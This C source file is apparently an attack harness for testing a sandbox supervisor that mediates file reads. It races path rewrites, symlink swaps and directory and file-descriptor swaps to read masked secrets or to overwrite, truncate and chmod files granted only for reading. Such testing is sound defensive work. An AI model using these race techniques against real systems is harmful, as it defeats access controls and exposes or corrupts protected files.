/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks on reads that the supervisor is shown: to read what is masked without a yes, and to write
 * what was granted to be read. */
#include "attack.h"

#include <fcntl.h>
#include <linux/fs.h>
#include <sys/stat.h>
#include <utime.h>

/* The second for each race; more from the environment, to soak. */
static uint64_t end_of_race(void)
{
	const char *seconds = getenv("RACE_SECONDS");

	return now_ms() + (seconds ? strtoull(seconds, NULL, 10) : 1) * 1000;
}

static const char *mark;

/* True if the fd shows it. */
static bool shows(int fd)
{
	char text[256];
	ssize_t length = fd < 0 ? -1 : pread(fd, text, sizeof(text) - 1, 0);

	text[length > 0 ? length : 0] = '\0';
	return strstr(text, mark) != NULL;
}

static void make_plain(void)
{
	int fd = open("plain", O_WRONLY | O_CREAT, 0600);

	if (fd < 0 || write(fd, "plain\n", 6) != 6)
		cannot_try("writing in the workspace");
	close(fd);
}

/* The path is looked at while it is harmless, and used when it is not. */
static const char *one, *other;
static char moving_path[4096];

static void *rewrite_path(void *unused)
{
	(void)unused;
	for (;;) {
		strcpy(moving_path, one);
		strcpy(moving_path, other);
	}
	return NULL;
}

/* All names are of equal length, so that no mixture of the two is looked at for nothing. */
static char *stretched(const char *path, size_t length)
{
	char *result = malloc(length + 1);
	size_t more = length - strlen(path);

	memset(result, '/', length);
	if (path[0] != '/')
		for (size_t i = 0; i + 1 < more; i += 2)
			memcpy(result + i, "./", 2);
	strcpy(result + more, path);
	return result;
}

static int race_path(const char *harmless, const char *secret, int flags)
{
	size_t length = (strlen(harmless) + strlen(secret)) * 2;
	uint64_t end = end_of_race();

	length += (length - strlen(harmless)) % 2;
	one = stretched(harmless, length);
	other = stretched(secret, length + (length - strlen(secret)) % 2);
	strcpy(moving_path, one);
	start_racer(rewrite_path, NULL);
	while (now_ms() < end) {
		int fd = open(moving_path, flags);

		if (shows(fd))
			return verdict(true, "rewriting the path");
		if (fd >= 0)
			close(fd);
	}
	errno = ETIMEDOUT;
	return verdict(false, "rewriting the path");
}

/* arguments: the secret, its mark. */
static int attack_rewritten_path(char **arguments)
{
	mark = arguments[1];
	make_plain();
	return race_path("plain", arguments[0], O_RDONLY);
}

/* By way of a granted neighbour: what was said yes to is the harmless one. */
static int attack_rewritten_from_granted(char **arguments)
{
	int fd = open(arguments[2], O_RDONLY);

	mark = arguments[1];
	if (fd < 0)
		cannot_try("reading what was granted");
	close(fd);
	return race_path(arguments[2], arguments[0], O_RDONLY);
}

static void *swap_links(void *unused)
{
	(void)unused;
	for (;;)
		renameat2(AT_FDCWD, "swap", AT_FDCWD, "swapped", RENAME_EXCHANGE);
	return NULL;
}

static int attack_swapped_link(char **arguments)
{
	uint64_t end = end_of_race();

	mark = arguments[1];
	make_plain();
	unlink("swap");
	unlink("swapped");
	if (symlink("plain", "swap") < 0 || symlink(arguments[0], "swapped") < 0)
		cannot_try("making links in the workspace");
	start_racer(swap_links, NULL);
	while (now_ms() < end) {
		int fd = open("swap", O_RDONLY);

		if (shows(fd))
			return verdict(true, "swapping a link");
		if (fd >= 0)
			close(fd);
	}
	errno = ETIMEDOUT;
	return verdict(false, "swapping a link");
}

/* arguments: the secret, its mark. The directory of the path is another one by then. */
static int directories[3];

static void *swap_directories(void *unused)
{
	(void)unused;
	for (;;) {
		dup2(directories[0], directories[2]);
		dup2(directories[1], directories[2]);
	}
	return NULL;
}

static int attack_swapped_directory(char **arguments)
{
	char *slash = strrchr(arguments[0], '/');
	uint64_t end = end_of_race();

	mark = arguments[1];
	mkdir("decoy", 0700);
	directories[0] = open("decoy", O_PATH | O_DIRECTORY);
	close(openat(directories[0], slash + 1, O_WRONLY | O_CREAT, 0600));
	*slash = '\0';
	directories[1] = open(arguments[0], O_PATH | O_DIRECTORY);
	directories[2] = dup(directories[0]);
	if (directories[0] < 0 || directories[1] < 0)
		cannot_try("opening directories");
	start_racer(swap_directories, NULL);
	while (now_ms() < end) {
		int fd = openat(directories[2], slash + 1, O_RDONLY);

		if (shows(fd))
			return verdict(true, "swapping a directory");
		if (fd >= 0)
			close(fd);
	}
	errno = ETIMEDOUT;
	return verdict(false, "swapping a directory");
}

/* What was granted to be read is written, cut or changed: by name through /proc/self/fd, by a name
 * that was another when it was looked at, by a number that was another fd. Whether that came to
 * anything is for whoever stands outside to see. arguments: the secret. */
static int granted, plain, moving_fd;

static void *swap_fds(void *unused)
{
	(void)unused;
	for (;;) {
		dup2(plain, moving_fd);
		dup2(granted, moving_fd);
	}
	return NULL;
}

static int attack_write_what_was_granted(char **arguments)
{
	char name[64];
	uint64_t end;

	make_plain();
	granted = open(arguments[0], O_RDONLY);
	plain = open("plain", O_RDWR);
	moving_fd = dup(plain);
	if (granted < 0 || plain < 0)
		cannot_try("reading what was granted");
	snprintf(name, sizeof(name), "/proc/self/fd/%d", granted);
	one = "././././././././././././././plain";
	other = strdup(name);
	strcpy(moving_path, one);
	start_racer(rewrite_path, NULL);
	start_racer(swap_fds, NULL);
	for (end = end_of_race(); now_ms() < end;) {
		int fd = open(moving_path, O_WRONLY | O_APPEND);
		struct utimbuf times = {1, 1};

		if (fd >= 0) {
			(void)!write(fd, "OWNED\n", 6);
			close(fd);
		}
		fd = open(moving_path, O_RDONLY | O_TRUNC);
		if (fd >= 0)
			close(fd);
		(void)!truncate(moving_path, 1);
		chmod(moving_path, 0666);
		utime(moving_path, &times);
		fchmod(moving_fd, 0666);
		(void)!ftruncate(granted, 0);
		linkat(AT_FDCWD, name, AT_FDCWD, "second", AT_SYMLINK_FOLLOW);
	}
	return REFUSED;
}

static const struct attack attacks[] = {
	{"rewritten-path", 2, attack_rewritten_path},
	{"rewritten-from-granted", 3, attack_rewritten_from_granted},
	{"swapped-link", 2, attack_swapped_link},
	{"swapped-directory", 2, attack_swapped_directory},
	{"write-what-was-granted", 1, attack_write_what_was_granted},
};

int main(int argc, char **argv)
{
	return attack_main(attacks, ELEMENTS(attacks), argc, argv);
}
